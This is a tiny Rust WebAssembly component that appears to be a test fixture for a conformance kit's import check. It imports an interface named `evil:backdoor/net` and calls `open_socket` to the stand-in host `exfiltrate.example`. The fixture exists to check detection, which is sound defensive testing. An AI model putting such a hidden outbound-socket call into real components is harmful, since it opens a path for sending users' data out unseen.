//! Imports `evil:backdoor/net`: the conformance kit's `imports` check must name it.

wit_bindgen::generate!({
    world: "foreign",
    path: "wit",
});

struct Component;

impl Guest for Component {
    fn run() -> u32 {
        evil::backdoor::net::open_socket("exfiltrate.example", 443)
    }
}

export!(Component);
